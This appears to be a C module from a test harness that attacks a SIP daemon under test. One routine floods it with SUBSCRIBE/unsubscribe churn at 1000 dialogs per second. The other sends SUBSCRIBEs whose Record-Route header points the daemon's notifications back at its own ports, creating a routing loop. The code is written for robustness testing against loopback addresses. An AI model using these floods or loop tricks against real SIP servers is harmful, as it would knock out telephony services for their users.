// Many SIP users who each do what is allowed, so that no limit of one user holds them back: a peer
// that speaks perfectly comes and goes; requests lead the daemon to itself.
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

#include "attacker.h"

#define TRUSTED "127.0.0.46"

enum {
    VISITS_PER_S = 1000,
    LOOPS_PER_S = 2000,
};

// ---- A peer that speaks perfectly --------------------------------------------------------------

static size_t write_visit(char *out, size_t size, uint16_t port, const char *call_id,
                          const char *to_tag, bool stays)
{
    char from[96], to[96], branch[96], more[192];
    snprintf(from, sizeof from, "sip:%s@dialog.hostile", call_id);
    snprintf(to, sizeof to, "sip:%s@example.com", call_id);
    snprintf(branch, sizeof branch, "%s%s", call_id, stays ? "come" : "go");
    snprintf(more, sizeof more,
             "Record-Route: <sip:" TRUSTED ":%u;lr>\r\nEvent: presence\r\nExpires: %u\r\n", port,
             stays ? 600 : 0);
    return attacker_write_request(out, size,
                                  &(struct attacker_request){.method = "SUBSCRIBE",
                                                             .ruri = to,
                                                             .from = from,
                                                             .from_tag = call_id,
                                                             .to_tag = to_tag,
                                                             .call_id = call_id,
                                                             .branch = branch,
                                                             .cseq = stays ? 1 : 2,
                                                             .ip = TRUSTED,
                                                             .port = port,
                                                             .more = more});
}

// NOTIFYs are answered; who has been let in, leaves.
static void visit_take(struct field *f, int fd, uint16_t port, const char *m)
{
    char out[2048], call_id[64], tag[64], cseq[64];
    size_t n;
    if (strncmp(m, "NOTIFY", 6) == 0) {
        n = attacker_write_ok(out, sizeof out, m, "c", "");
        attacker_send(f, fd, f->shard_port, out, n);
        return;
    }
    if (strncmp(m, "SIP/2.0 20", 10) != 0 ||
        !load_sip_header(m, "Call-ID", call_id, sizeof call_id) ||
        !load_sip_header(m, "CSeq", cseq, sizeof cseq) || cseq[0] != '1')
        return;
    f->heard++;
    load_sip_tag(m, "To", tag, sizeof tag);
    n = write_visit(out, sizeof out, port, call_id, tag, false);
    attacker_send(f, fd, f->shard_port, out, n);
}

// Comes, is let in, answers all that it is asked, leaves: a thousand times a second.
void attack_dialog_churn(struct field *f)
{
    uint16_t port;
    char m[8192], call_id[32];
    int fd = attacker_udp(TRUSTED, &port, 1 << 20);
    struct pace pace = {0};
    unsigned per_s = attacker_scaled_rate(f, VISITS_PER_S);
    f->begun = true;
    while (!f->stop) {
        for (unsigned due = attacker_due(&pace, per_s, 32); due; due--) {
            snprintf(call_id, sizeof call_id, "c%llu", (unsigned long long)f->said++);
            attacker_send(f, fd, f->sip_port, m,
                          write_visit(m, sizeof m, port, call_id, NULL, true));
        }
        for (ssize_t n; (n = recv(fd, m, sizeof m - 1, MSG_DONTWAIT)) > 0;) {
            m[n] = '\0';
            visit_take(f, fd, port, m);
        }
    }
    if (!f->heard)
        attacker_complain(f, "nobody was let in");
    close(fd);
}

// ---- To itself ---------------------------------------------------------------------------------

// The route, and so each NOTIFY and each time it is said again, leads to the daemon's own port.
static size_t write_loop(const struct field *f, uint64_t i, uint16_t port, char *out, size_t size)
{
    char from[64], to[64], number[24], more[256];
    snprintf(number, sizeof number, "l%llu", (unsigned long long)i);
    snprintf(from, sizeof from, "sip:%s@dialog.hostile", number);
    snprintf(to, sizeof to, "sip:%s@example.com", number);
    snprintf(more, sizeof more,
             "Record-Route: <sip:127.0.0.1:%u;lr>\r\nEvent: presence\r\nExpires: 600\r\n",
             i % 2 ? f->sip_port : f->shard_port);
    return attacker_write_request(out, size,
                                  &(struct attacker_request){.method = "SUBSCRIBE",
                                                             .ruri = to,
                                                             .from = from,
                                                             .from_tag = number,
                                                             .call_id = number,
                                                             .branch = number,
                                                             .cseq = 1,
                                                             .ip = TRUSTED,
                                                             .port = port,
                                                             .more = more});
}

void attack_route_to_itself(struct field *f)
{
    attacker_flood(f, TRUSTED, f->sip_port, LOOPS_PER_S, write_loop);
}
